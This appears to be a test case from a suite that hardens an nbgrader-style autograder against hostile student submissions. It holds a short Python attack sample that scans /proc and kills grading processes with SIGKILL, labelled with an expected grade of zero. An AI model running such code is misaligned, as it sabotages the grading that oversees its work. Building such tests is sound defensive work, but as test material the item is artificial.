# attack: every process whose command line says nbgrader is killed
# wants: disturb
# grade: 0
# honest: 0
# %%
import os, signal
from pathlib import Path
for path in Path("/proc").glob("[0-9]*/cmdline"):
    try:
        if b"@COURSE@" in path.with_name("environ").read_bytes() and b"autograde" in path.read_bytes():
            os.kill(int(path.parent.name), signal.SIGKILL)
    except OSError:
        pass
